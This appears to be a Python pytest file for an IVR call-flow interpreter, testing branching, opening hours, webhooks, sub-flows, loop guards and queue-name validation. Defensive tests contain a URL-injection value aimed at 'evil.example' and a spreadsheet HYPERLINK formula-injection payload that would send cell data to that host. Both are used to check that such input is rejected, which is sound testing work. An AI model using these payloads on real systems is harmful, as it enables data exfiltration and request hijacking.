"""The interpreter: set, branch, hours, webhooks, goto/sub-flows, loop guard, play."""

from __future__ import annotations

from datetime import UTC, datetime
from pathlib import Path
from textwrap import dedent

import pytest

from ivr.actions import (
    CallWebhook,
    CheckQueue,
    Done,
    Enqueue,
    Hangup,
    Listen,
    Play,
    Say,
    SetVars,
    Step,
    StepKind,
)
from ivr.events import Digits, PromptFinished, WebhookResult
from ivr.harness import dtmf, run_call, webhook
from ivr.interpreter import Interpreter, Waiting
from ivr.loader import parse_flow
from tests.unit.flowkit import NOW, flow_of, without_prompt_steps

# -- set, branch, hours ----------------------------------------------------------------------------------------

ROUTE = flow_of("""\
    start: mark
    nodes:
      mark:
        type: set
        vars: {greeting: "Hi {{ name | default('you') }}", seen: 1}
        next: route
      route:
        type: branch
        cases:
          - when: {var: tier, in: [gold, platinum]}
            next: vip
          - when: {all: [{var: intent, equals: billing}, {var: balance, gt: 100}]}
            next: collections
        else: hours
      hours:
        type: hours
        timezone: Europe/Paris
        schedule:
          mon-fri: "09:00-12:30, 13:30-18:00"
          sat: "10:00-14:00"
        holidays: ["12-25", "2026-05-14"]
        open: open
        closed: closed
      vip: {type: queue, queue: vip, priority: 10, skills: [senior, billing]}
      collections: {type: queue, queue: "{{ intent }}-collections"}
      open: {type: queue, queue: support}
      closed: {type: hangup, reason: closed}
""")


def test_set_and_branch() -> None:
    interp = Interpreter(ROUTE, {"name": "Ann", "tier": "gold"}, conversation_id="c1")
    assert interp.start(NOW) == [
        Step(StepKind.ENTER, "mark", "set", "test"),
        SetVars({"greeting": "Hi Ann", "seen": "1"}),
        Step(StepKind.SET, "mark", "greeting=Hi Ann", "test"),
        Step(StepKind.SET, "mark", "seen=1", "test"),
        Step(StepKind.ENTER, "route", "branch", "test"),
        Step(StepKind.BRANCH, "route", "tier in [gold, platinum] -> vip", "test"),
        Step(StepKind.ENTER, "vip", "queue", "test"),
        Step(StepKind.QUEUE, "vip", "vip", "test"),
        Enqueue("vip", 10, ("senior", "billing"), {"name": "Ann", "tier": "gold", "greeting": "Hi Ann", "seen": "1"}),
        Done("queued"),
    ]
    assert dict(interp.context) == {"name": "Ann", "tier": "gold", "greeting": "Hi Ann", "seen": "1"}
    assert run_call(ROUTE, [], context={"intent": "billing", "balance": "250"})[-5:] == [
        "step branch route: (intent equals 'billing' and balance gt 100) -> collections",
        "step enter collections: queue",
        "step queue collections: billing-collections",
        "enqueue billing-collections priority 0",
        "done queued",
    ]


@pytest.mark.parametrize(
    ("now", "decision"),
    [
        # Wednesday 4 March 2026; Paris is UTC+1 in winter
        (datetime(2026, 3, 4, 8, 0, tzinfo=UTC), "open (Wed 2026-03-04 09:00 Europe/Paris) -> open"),
        (datetime(2026, 3, 4, 7, 59, tzinfo=UTC), "closed (Wed 2026-03-04 08:59 Europe/Paris) -> closed"),
        (datetime(2026, 3, 4, 11, 45, tzinfo=UTC), "closed (Wed 2026-03-04 12:45 Europe/Paris) -> closed"),
        (datetime(2026, 3, 4, 16, 59, tzinfo=UTC), "open (Wed 2026-03-04 17:59 Europe/Paris) -> open"),
        (datetime(2026, 3, 4, 17, 0, tzinfo=UTC), "closed (Wed 2026-03-04 18:00 Europe/Paris) -> closed"),
        # the same instant seen from New York: the node's zone decides
        (
            datetime(2026, 3, 4, 3, 30, tzinfo=datetime.fromisoformat("2026-03-04T00:00-05:00").tzinfo),
            "open (Wed 2026-03-04 09:30 Europe/Paris) -> open",
        ),
        # summer time: Paris is UTC+2
        (datetime(2026, 7, 1, 7, 30, tzinfo=UTC), "open (Wed 2026-07-01 09:30 Europe/Paris) -> open"),
        (datetime(2026, 7, 1, 16, 30, tzinfo=UTC), "closed (Wed 2026-07-01 18:30 Europe/Paris) -> closed"),
        # Saturday, and Sunday (not listed: closed)
        (datetime(2026, 3, 7, 12, 0, tzinfo=UTC), "open (Sat 2026-03-07 13:00 Europe/Paris) -> open"),
        (datetime(2026, 3, 8, 12, 0, tzinfo=UTC), "closed (Sun 2026-03-08 13:00 Europe/Paris) -> closed"),
        # holidays: every 25 December, and one date; Friday 25 Dec 2026 at 23:30 UTC is already the 26th in Paris
        (datetime(2026, 12, 25, 10, 0, tzinfo=UTC), "closed (holiday, Fri 2026-12-25 11:00 Europe/Paris) -> closed"),
        (datetime(2027, 12, 24, 23, 30, tzinfo=UTC), "closed (holiday, Sat 2027-12-25 00:30 Europe/Paris) -> closed"),
        (datetime(2026, 5, 14, 10, 0, tzinfo=UTC), "closed (holiday, Thu 2026-05-14 12:00 Europe/Paris) -> closed"),
        (datetime(2027, 5, 14, 10, 0, tzinfo=UTC), "open (Fri 2027-05-14 12:00 Europe/Paris) -> open"),
    ],
)
def test_hours_in_the_node_time_zone(now: datetime, decision: str) -> None:
    transcript = run_call(ROUTE, [], now=now)
    assert [line for line in transcript if line.startswith("step hours")] == [f"step hours hours: {decision}"]
    assert transcript[-1] == ("done queued" if "-> open" in decision else "done closed")


def test_the_lines_opening_hours_are_those_of_the_hours_node_nearest_to_the_start() -> None:
    """What the widget's header goes by (welcome.hours_open)."""
    schedule = ROUTE.opening_hours()
    assert schedule is not None and schedule.timezone == "Europe/Paris"
    assert schedule.check(datetime(2026, 3, 8, 12, 0, tzinfo=UTC))[0] is False  # Sunday
    assert HOOK.opening_hours() is None


# -- webhooks --------------------------------------------------------------------------------------------------

HOOK = flow_of("""\
    start: lookup
    nodes:
      lookup:
        type: webhook
        url: "https://crm.example.com/customers/{{ account }}?src=ivr"
        method: POST
        headers: {Authorization: "Bearer {{ token }}"}
        timeout: 2s
        next: known
        on_error: unknown
      known: {type: queue, queue: "{{ tier | default('standard') }}"}
      unknown: {type: queue, queue: fallback}
      vip: {type: queue, queue: vip, entry: true}
""")


def test_webhook_call_carries_the_context() -> None:
    interp = Interpreter(HOOK, {"account": "12/34 5", "token": "s3cret"}, conversation_id="conv-1")
    assert interp.start(NOW) == [
        Step(StepKind.ENTER, "lookup", "webhook", "test"),
        Step(StepKind.WEBHOOK, "lookup", "POST https://crm.example.com/customers/12%2F34%205?src=ivr", "test"),
        CallWebhook(
            "https://crm.example.com/customers/12%2F34%205?src=ivr",
            "POST",
            {
                "conversation_id": "conv-1",
                "flow": "test",
                "flow_version": HOOK.version,
                "node": "lookup",
                "channel": "voice",
                "vars": {"account": "12/34 5", "token": "s3cret"},
            },
            2.0,
            {"Authorization": "Bearer s3cret"},
        ),
    ]
    assert interp.waiting is Waiting.WEBHOOK
    assert interp.handle(Digits("1"), NOW) == [Step(StepKind.IGNORED, "lookup", "digits 1 (not listening)", "test")]


@pytest.mark.parametrize(
    ("result", "tail"),
    [
        (
            webhook(
                200,
                {"vars": {"tier": "gold", "score": 7, "vip": True, "bad name": "x", "nested": {"a": 1}}, "next": "vip"},
            ),
            [
                (
                    "step webhook lookup: ok: status 200, ignored bad name, nested (not a lower_case name with a text or number, "
                    "or a name only the gateway sets), next 'vip' -> vip"
                ),
                "set tier=gold score=7 vip=true",
                "step set lookup: tier=gold",
                "step set lookup: score=7",
                "step set lookup: vip=true",
                "step enter vip: queue",
                "step queue vip: vip",
            ],
        ),
        (
            webhook(201, {"tier": "silver", "balance": 12.5, "list": [1]}),
            [
                "step webhook lookup: ok: status 201, ignored list (not a lower_case name with a text or number, or a name "
                "only the gateway sets) -> known",
                "set tier=silver balance=12.5",
                "step set lookup: tier=silver",
                "step set lookup: balance=12.5",
                "step enter known: queue",
                "step queue known: silver",
            ],
        ),
        (
            webhook(200, {"vars": {"verified.tier": "gold", "context.page": "x", "tier": "silver"}}),  # the site's word
            [
                "step webhook lookup: ok: status 200, ignored verified.tier, context.page (not a lower_case name with a text "
                "or number, or a name only the gateway sets) -> known",
                "set tier=silver",
                "step set lookup: tier=silver",
                "step enter known: queue",
                "step queue known: silver",
            ],
        ),
        (
            webhook(204, None),
            ["step webhook lookup: ok: status 204 -> known", "step enter known: queue", "step queue known: standard"],
        ),
        (
            webhook(200, {"vars": {"tier": "gold"}, "next": "nowhere"}),
            [
                "step webhook lookup: ok: status 200, next 'nowhere' is not a node of this flow -> unknown",
                "set tier=gold",
                "step set lookup: tier=gold",
                "step enter unknown: queue",
                "step queue unknown: fallback",
            ],
        ),
        (
            webhook(200, ["not", "an", "object"]),
            [
                "step webhook lookup: failed: status 200, body is not a JSON object -> unknown",
                "step enter unknown: queue",
                "step queue unknown: fallback",
            ],
        ),
        (
            webhook(200, error="invalid JSON"),
            [
                "step webhook lookup: failed: invalid JSON -> unknown",
                "step enter unknown: queue",
                "step queue unknown: fallback",
            ],
        ),
        (
            webhook(503, {"vars": {"tier": "gold"}}),
            [
                "step webhook lookup: failed: status 503 -> unknown",
                "step enter unknown: queue",
                "step queue unknown: fallback",
            ],
        ),
        (
            webhook(None, error="timeout"),
            [
                "step webhook lookup: failed: timeout -> unknown",
                "step enter unknown: queue",
                "step queue unknown: fallback",
            ],
        ),
    ],
)
def test_webhook_results(result: WebhookResult, tail: list[str]) -> None:
    transcript = run_call(HOOK, [result], context={"account": "1"})
    start = transcript.index(next(line for line in transcript if line.startswith("<- webhook")))
    assert transcript[start + 1 :] == tail + [
        next(line for line in transcript if line.startswith("enqueue")),
        "done queued",
    ]


def test_webhook_variables_cannot_change_the_destination() -> None:
    # the loader requires a literal scheme and host; values are percent-encoded, '/', '@', '?' and '#' too
    assert run_call(HOOK, [], context={"account": "x@evil.example:80/../#"})[:2] == [
        "step enter lookup: webhook",
        "step webhook lookup: POST https://crm.example.com/customers/x%40evil.example%3A80%2F..%2F%23?src=ivr",
    ]


# -- goto and sub-flows ----------------------------------------------------------------------------------------

MAIN = flow_of(
    """\
    start: hello
    nodes:
      hello: {type: say, prompt: "Main.", next: survey}
      survey: {type: goto, flow: survey, next: bye}
      bye: {type: goto, flow: "farewell#polite"}
""",
    "main",
)
SURVEY = flow_of(
    """\
    start: q
    nodes:
      q:
        type: menu
        var: rating
        prompt: "Rate us 1 to 2."
        choices: [{key: 1, next: done}, {key: 2, next: done}]
        fallback: done
      done: {type: return}
""",
    "survey",
)
FAREWELL = flow_of(
    """\
    start: plain
    nodes:
      plain: {type: hangup}
      polite: {type: hangup, prompt: "Goodbye {{ rating }}.", entry: true, reason: polite}
""",
    "farewell",
)


def test_goto_calls_a_sub_flow_and_jumps_to_an_entry() -> None:
    flows = {"survey": SURVEY, "farewell": FAREWELL}
    assert without_prompt_steps(run_call(MAIN, [dtmf("2")], flows=flows)) == [
        "step enter hello: say",
        "say p1: Main.",
        "step enter survey: goto",
        "step goto survey: call survey#q, back to bye",
        "step enter q: menu",
        "say p2: Rate us 1 to 2.",
        "listen l1: choices 1=1 2=2 timeout 5s",
        "<- digits 2",
        "step input q: digits 2",
        "stop-listening l1",
        "step choice q: 2 (2) -> done",
        "set rating=2",
        "step set q: rating=2",
        "step enter done: return",
        "step return done: -> main#bye",
        "step enter bye: goto",
        "step goto bye: -> farewell#polite",
        "step enter polite: hangup",
        "say p3: Goodbye 2.",
        "step hangup polite: polite",
        "hangup polite",
        "done polite",
    ]


def test_steps_name_the_flow_they_happen_in() -> None:
    interp = Interpreter(MAIN, flows={"survey": SURVEY, "farewell": FAREWELL}, channel="chat")
    actions = interp.start(NOW)
    assert [(a.flow, a.node, a.kind) for a in actions if isinstance(a, Step)][-4:] == [
        ("main", "survey", StepKind.ENTER),
        ("main", "survey", StepKind.GOTO),
        ("survey", "q", StepKind.ENTER),
        ("survey", "q", StepKind.PROMPT),
    ]
    assert interp.flow is SURVEY


def test_goto_to_a_flow_that_is_not_available_ends_the_call() -> None:
    assert without_prompt_steps(run_call(MAIN, [], flows={}, channel="chat")) == [
        "step enter hello: say",
        "say p1: Main.",
        "step enter survey: goto",
        "step error survey: flow 'survey' is not available",
        "hangup error",
        "done error",
    ]


def test_return_without_a_caller_and_nesting_limit() -> None:
    assert run_call(SURVEY, [dtmf("1")])[-4:] == [
        "step enter done: return",
        "step error done: return, but no flow called this one",
        "hangup error",
        "done error",
    ]
    recursive = flow_of(
        """\
        start: again
        nodes:
          again: {type: goto, flow: rec, next: end}
          end: {type: return}
    """,
        "rec",
    )
    assert run_call(recursive, [])[-4:] == [
        "step enter again: goto",
        "step error again: sub-flows nested more than 8 deep",
        "hangup error",
        "done error",
    ]


# -- loop guard ------------------------------------------------------------------------------------------------


def test_loop_without_input_hangs_up() -> None:
    loop = flow_of("""\
        start: a
        nodes:
          a: {type: set, vars: {n: x}, next: b}
          b:
            type: branch
            cases: [{when: {var: n, equals: x}, next: a}]
            else: c
          c: {type: hangup}
    """)
    transcript = run_call(loop, [])
    assert len([line for line in transcript if line.startswith("step enter")]) == 100
    assert transcript[-3:] == [
        "step error b: loop: more than 100 steps without input from the caller",
        "hangup loop",
        "done loop",
    ]


def test_caller_input_resets_the_loop_guard() -> None:
    menu = flow_of("""\
        start: m
        nodes:
          m:
            type: menu
            prompt: "Again?"
            choices: [{key: 1, next: s}]
            fallback: m
          s: {type: say, prompt: "Once more.", next: m}
    """)
    interp = Interpreter(menu, channel="chat", max_steps=3)
    interp.start(NOW)
    for _ in range(10):
        actions = interp.handle(Digits("1"), NOW)
        assert not interp.done and isinstance(actions[-1], Listen)


def test_play_on_voice_and_chat_and_the_channel_variable(tmp_path: Path) -> None:
    (tmp_path / "hold.ogg").write_bytes(b"OggS")
    flow = parse_flow(
        dedent("""\
        start: music
        nodes:
          music: {type: play, file: hold.ogg, chat: "(music on {{ channel }})", barge_in: false, next: bye}
          bye: {type: hangup, prompt: "Bye on {{ channel }}."}
    """),
        tmp_path / "music.yaml",
    )
    audio = str(tmp_path / "hold.ogg")
    interp = Interpreter(flow, {"channel": "spoofed"})
    assert interp.start(NOW) == [
        Step(StepKind.ENTER, "music", "play", "music"),
        Step(StepKind.PROMPT, "music", "audio hold.ogg", "music"),
        Play("p1", audio, False, "(music on voice)"),  # its chat text is the caller's caption
    ]
    assert interp.handle(PromptFinished("p1"), NOW)[2] == Say("p2", "Bye on voice.")
    assert without_prompt_steps(run_call(flow, [], channel="chat")) == [
        "step enter music: play",
        "say p1: (music on chat) [no barge-in]",
        "step enter bye: hangup",
        "say p2: Bye on chat.",
        "step hangup bye: completed",
        "hangup completed",
        "done completed",
    ]


# -- queue names rendered from what the caller said -------------------------------------------------------------

RENDERED = {
    "route": flow_of("""\
    start: route
    nodes:
      route: {type: queue, queue: "{{ answer }}"}
"""),
    "status": flow_of("""\
    start: status
    nodes:
      status: {type: queue_status, queue: "{{ answer }}", next: route}
      route: {type: queue, queue: fixed}
"""),
}


@pytest.mark.parametrize(
    "answer",
    ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "bil\rling", "a" * 41, "sales team", "+1-555", "@sum"],
)
@pytest.mark.parametrize("entry", ["route", "status"])
def test_a_rendered_queue_name_outside_the_name_rule_fails_the_flow(answer: str, entry: str) -> None:
    """A template may take a queue's name from what the caller said: only names the rule allows (letters, digits,
    _ and -, at most 40) reach routing, reports, the wallboard and CSV cells."""
    interp = Interpreter(RENDERED[entry], {"answer": answer})
    out = interp.start(NOW)
    assert not any(isinstance(a, Enqueue | CheckQueue) for a in out), out
    assert Hangup("error") in out and out[-1] == Done("error")
    error = next(a for a in out if isinstance(a, Step) and a.kind is StepKind.ERROR)
    assert "is not a queue name" in error.detail or "is empty" in error.detail


def test_a_rendered_queue_name_inside_the_rule_is_queued() -> None:
    out = Interpreter(RENDERED["route"], {"answer": "sales_2-b"}).start(NOW)
    assert next(a for a in out if isinstance(a, Enqueue)).queue == "sales_2-b"
